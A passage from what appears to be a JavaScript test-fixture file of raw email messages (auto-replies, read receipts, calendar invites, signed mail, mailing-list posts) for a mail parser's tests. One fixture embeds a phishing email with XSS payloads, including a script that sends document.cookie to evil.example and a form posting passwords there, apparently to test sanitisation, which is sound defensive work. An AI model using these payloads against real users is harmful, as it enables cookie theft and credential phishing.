For urgent matters please contact finance@example.org.`)}
`,
  ),
  m(
    '041-out-of-office-exchange',
    CRLF,
    `From: Per Hansen <per.hansen@corp.example.com>
To: ACME Service Desk <support@acme.example>
Subject: Automatic reply: Contract renewal 2025 - who signs?
Thread-Topic: Contract renewal 2025 - who signs?
Thread-Index: AQHbkl3Ab2ZmaWNlX2F1dG9yZXBseQ==
Date: Tue, 11 Mar 2025 09:30:04 +0000
Message-ID: <a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5@AM9PR03MB7012.eurprd03.prod.outlook.com>
In-Reply-To: <20250311093000.3F2E1D0C@assistant.corp.example.com>
Content-Language: en-US
X-MS-Has-Attach:
X-MS-Exchange-Organization-SCL: -1
X-MS-Exchange-Organization-AutoResponseSuppress: All
X-MS-Exchange-Inbox-Rules-Loop: per.hansen@corp.example.com
Auto-Submitted: auto-generated
X-Auto-Response-Suppress: All
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: 7bit
MIME-Version: 1.0

I am out of the office until Monday 17 March. I will reply when I am back.
For urgent IT matters call the service desk on +47 400 00 002.
`,
  ),
  m(
    '042-auto-reply-vendor-headers',
    LF,
    `Return-Path: <info@example.dk>
From: Lund & Son Info <info@example.dk>
To: support@acme.example
Subject: Thank you for your message
Date: Tue, 11 Mar 2025 13:00:02 +0100
Message-ID: <autoresponder-8f7e6d5c@cpanel.example.dk>
X-Autoreply: yes
X-Autorespond: Thank you for your message
Precedence: auto_reply
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

Thank you for your message. We answer within two working days.
`,
  ),
  m(
    '043-read-receipt-mdn',
    CRLF,
    `From: Ingrid Berg <ingrid.berg@corp.example.com>
To: ACME Service Desk <support@acme.example>
Subject: Read: RE: Printer on 3rd floor offline [ejTag: 4711]
Date: Fri, 7 Mar 2025 08:20:11 +0000
Message-ID: <DB9PR02MB7321MDN0123456789ABCDEF01234@DB9PR02MB7321.eurprd02.prod.outlook.com>
References: ${A2}
In-Reply-To: ${A2}
MIME-Version: 1.0
Content-Type: multipart/report; report-type=disposition-notification;
\tboundary="_mdn_DB9PR02MB7321_0123_"

--_mdn_DB9PR02MB7321_0123_
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: 7bit

Your message

  To: Ingrid Berg
  Subject: RE: Printer on 3rd floor offline [ejTag: 4711]
  Sent: Friday, March 7, 2025 8:15:02 AM (UTC) Coordinated Universal Time

was read on Friday, March 7, 2025 8:20:11 AM (UTC) Coordinated Universal Time.

--_mdn_DB9PR02MB7321_0123_
Content-Type: message/disposition-notification

Reporting-UA: DB9PR02MB7321.eurprd02.prod.outlook.com; Microsoft Exchange Server
Final-Recipient: rfc822;ingrid.berg@corp.example.com
Original-Message-ID: ${A2}
Disposition: automatic-action/MDN-sent-automatically; displayed

--_mdn_DB9PR02MB7321_0123_--
`,
  ),
  m(
    '044-calendar-invite',
    CRLF,
    `From: Bjorn Dahl <bjorn.dahl@corp.example.com>
To: ACME Service Desk <support@acme.example>
Subject: Invitation: Onboarding review @ Wed 19 Mar 2025 10:00 - 11:00 (CET)
Date: Tue, 11 Mar 2025 14:00:00 +0000
Message-ID: <calendar-6b5a4c3d-2e1f-4a0b-9c8d-7e6f5a4b3c2d@google.com>
Reply-To: Bjorn Dahl <bjorn.dahl@corp.example.com>
Sender: Google Calendar <calendar-notification@google.com>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="000000000000b1a2c3062f8d1e2f"

--000000000000b1a2c3062f8d1e2f
Content-Type: multipart/alternative; boundary="000000000000b1a2c2062f8d1e2d"

--000000000000b1a2c2062f8d1e2d
Content-Type: text/plain; charset="UTF-8"; format=flowed; delsp=yes

Onboarding review
Wednesday 19 March 2025 10:00 - 11:00 (Central European Time)
Joining: https://meet.example.com/abc-defg-hij

--000000000000b1a2c2062f8d1e2d
Content-Type: text/calendar; charset="UTF-8"; method=REQUEST
Content-Transfer-Encoding: 7bit

BEGIN:VCALENDAR
PRODID:-//Google Inc//Google Calendar 70.9054//EN
VERSION:2.0
CALSCALE:GREGORIAN
METHOD:REQUEST
BEGIN:VEVENT
DTSTART:20250319T090000Z
DTEND:20250319T100000Z
DTSTAMP:20250311T140000Z
ORGANIZER;CN=Bjorn Dahl:mailto:bjorn.dahl@corp.example.com
UID:6b5a4c3d2e1f4a0b9c8d7e6f5a4b3c2d@google.com
ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=
 TRUE;CN=support@acme.example;X-NUM-GUESTS=0:mailto:support@acme.example
SUMMARY:Onboarding review
STATUS:CONFIRMED
SEQUENCE:0
END:VEVENT
END:VCALENDAR

--000000000000b1a2c2062f8d1e2d--
--000000000000b1a2c3062f8d1e2f
Content-Type: application/ics; name="invite.ics"
Content-Disposition: attachment; filename="invite.ics"
Content-Transfer-Encoding: base64

${b64('BEGIN:VCALENDAR\r\nVERSION:2.0\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:6b5a4c3d2e1f4a0b9c8d7e6f5a4b3c2d@google.com\r\nSUMMARY:Onboarding review\r\nDTSTART:20250319T090000Z\r\nDTEND:20250319T100000Z\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n')}
--000000000000b1a2c3062f8d1e2f--
`,
  ),
  m(
    '045-pgp-mime-signed',
    LF,
    `Return-Path: <nils@example.net>
From: Nils Aas <nils@example.net>
To: support@acme.example
Subject: Security contact for disclosure
Date: Tue, 11 Mar 2025 15:15:15 +0100
Message-ID: <87sec0ntact.fsf@nils.example.net>
MIME-Version: 1.0
Content-Type: multipart/signed; boundary="=-=-=";
\tmicalg=pgp-sha256; protocol="application/pgp-signature"

--=-=-=
Content-Type: text/plain; charset=us-ascii

Who is your security contact? I found an open redirect on
https://www.acme.example/login?next=... and would like to report it
privately.

--=-=-=
Content-Type: application/pgp-signature; name="signature.asc"
Content-Description: signature

-----BEGIN PGP SIGNATURE-----

iHUEARYIAB0WIQTm0EJk8Xx9QmVjFQn6Rj0f4yq2bwUCZ9BHQwAKCRD6Rj0f4yq2
b1xZAQCX8G0o0s7pQpk2wR4x6ZfN3s0yq1XbH0x2Jd5n6aW9AAD/bJ7E5o0hQf1k
r3p2g7vX9m2Lw4cT5yN8qZ1dS0aE4AY=
=Xq3R
-----END PGP SIGNATURE-----
--=-=-=--
`,
  ),
  m(
    '046-mailing-list',
    LF,
    `Return-Path: <users-bounces+support=acme.example@lists.example.org>
From: Kari Nordmann <kari.nordmann@example.no>
To: users@lists.example.org
Subject: [users] Is anyone else seeing login loops?
Date: Tue, 11 Mar 2025 16:00:00 +0100
Message-ID: <c1d2e3f4-0a9b-4c8d-b7e6-f5a4b3c2d1e0@example.no>
List-Id: ACME product users <users.lists.example.org>
List-Unsubscribe: <https://lists.example.org/mailman/options/users>,
 <mailto:users-request@lists.example.org?subject=unsubscribe>
List-Post: <mailto:users@lists.example.org>
List-Archive: <https://lists.example.org/pipermail/users/>
Precedence: list
Sender: "users" <users-bounces@lists.example.org>
Errors-To: users-bounces+support=acme.example@lists.example.org
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="===============8675309112233445566=="

--===============8675309112233445566==
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 7bit

Since the last update the portal sends me back to the login page after
every click. Clearing cookies helps for a few minutes.

--===============8675309112233445566==
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: 7bit
Content-Disposition: inline

_______________________________________________
users mailing list
users@lists.example.org
https://lists.example.org/mailman/listinfo/users

--===============8675309112233445566==--
`,
  ),
  m(
    '047-html-hostile-markup',
    LF,
    `Return-Path: <offers@promo.example>
From: "Security Team" <offers@promo.example>
To: support@acme.example
Subject: Action required: verify your mailbox
Date: Wed, 12 Mar 2025 02:13:00 +0100
Message-ID: <phish-20250312021300@promo.example>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: quoted-printable

${qp(
  u8(`<html><head><style>body{background:url(javascript:alert(1))}</style><script>fetch('https://evil.example/c?'+document.cookie)</script><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"></head>
<body onload="alert('x')">
<p>Your mailbox is full. <a href="javascript:alert(document.domain)">Verify now</a> or <a href="https://evil.example/login" target="_top">log in here</a>.</p>
<img src="x" onerror="alert(1)"><img src="https://track.promo.example/open.gif?id=77" width="1" height="1">
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Send</button></form>
<svg><script>alert(2)</script><a xlink:href="javascript:alert(3)"><text y="20">click</text></a></svg>
<object data="https://evil.example/x.swf"></object>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(4)">encoded</a>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:white">overlay</div>
</body></html>`),
)}
`,
  ),
  m(
    '048-many-received-arc-dkim',
    CRLF,
    `Received: from AS8PR02MB9952.eurprd02.prod.outlook.com (2603:10a6:20b:5a1::9) by
 DB9PR02MB7321.eurprd02.prod.outlook.com with HTTPS; Wed, 12 Mar 2025 08:01:05
 +0000
Received: from DU2PR04CA0012.eurprd04.prod.outlook.com (2603:10a6:10:3b::17)
 by AS8PR02MB9952.eurprd02.prod.outlook.com (2603:10a6:20b:5a1::9) with
 Microsoft SMTP Server (version=TLS1_2,
 cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.8489.28; Wed, 12 Mar
 2025 08:01:04 +0000
Received: from mx.acme.example (198.51.100.5) by
 DU2PR04CA0012.mail.protection.outlook.com (10.167.8.140) with Microsoft SMTP
 Server (version=TLS1_3, cipher=TLS_AES_256_GCM_SHA384) id 15.20.8489.18 via
 Frontend Transport; Wed, 12 Mar 2025 08:01:03 +0000
Received: from relay.example.fi (relay.example.fi [192.0.2.77])
\tby mx.acme.example (Postfix) with ESMTPS id 4Q3a0B1c2Dz9sMn
\tfor <support@acme.example>; Wed, 12 Mar 2025 09:01:02 +0100 (CET)
Received: from [10.0.0.12] (unknown [10.0.0.12])
\tby relay.example.fi (Postfix) with ESMTPSA id 0A1B2C3D
\tfor <support@acme.example>; Wed, 12 Mar 2025 10:00:58 +0200 (EET)
ARC-Seal: i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none;
 b=QVJDU2VhbEZpeHR1cmVPbmx5Tm90QVJlYWxTaWduYXR1cmVKdXN0VGhlU2hhcGVPZkl0QXNJdEFwcGVhcnNJbk91dGxvb2s=
ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=microsoft.com;
 s=arcselector10001;
 h=From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-AntiSpam-MessageData-ChunkCount:X-MS-Exchange-AntiSpam-MessageData-0:X-MS-Exchange-AntiSpam-MessageData-1;
 bh=frcCV1k9oG9oKj3dpUqdJg1PxRT2RSN/XKdLCPjaYaY=;
 b=QVJDTWVzc2FnZVNpZ25hdHVyZUZpeHR1cmVPbmx5
ARC-Authentication-Results: i=1; mx.microsoft.com 1; spf=pass
 smtp.mailfrom=example.fi; dmarc=pass action=none header.from=example.fi;
 dkim=pass header.d=example.fi; arc=none
Authentication-Results: spf=pass (sender IP is 198.51.100.5)
 smtp.mailfrom=example.fi; dkim=pass (signature was verified)
 header.d=example.fi;dmarc=pass action=none header.from=example.fi;
DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d=example.fi;
\ts=mail2024; t=1741766458;
\tbh=2jUSOH9NhtVGCQWNr9BrIAPreKQjO6Sn7XIkfJVOzv8=;
\th=From:To:Subject:Date:Message-ID;
\tb=REtJTVNpZ25hdHVyZUZpeHR1cmVPbmx5Tm90UmVhbA==
From: Aino Virtanen <aino.virtanen@example.fi>
To: support@acme.example
Subject: Question about the data processing agreement, section 4.2 (sub-processors),
 and whether the new hosting provider announced in February is covered by it
Date: Wed, 12 Mar 2025 10:00:57 +0200
Message-ID: <0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0@example.fi>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8; format=flowed
Content-Transfer-Encoding: 7bit
X-MS-Exchange-Organization-Network-Message-Id: 9d8c7b6a-5f4e-3d2c-1b0a-f9e8d7c6b5a4
X-MS-Exchange-Organization-MessageDirectionality: Incoming
X-MS-Exchange-Organization-AuthSource: DU2PR04CA0012.eurprd04.prod.outlook.com
X-MS-Exchange-Organization-AuthAs: Anonymous

Hello,

section 4.2 of the DPA lists your sub-processors. Is the hosting provider
you announced in February already covered, or will there be an amendment?

Best regards,
Aino Virtanen
`,
  ),
];

run([
  ...PLAIN,
  ...RICH,
  ...ATTACH,
  ...CHARSETS,
  ...MISSING,
  ...THREAD_A,
  ...THREAD_B,
  ...MOBILE_AND_HEADERS,
  ...AUTO,
]);
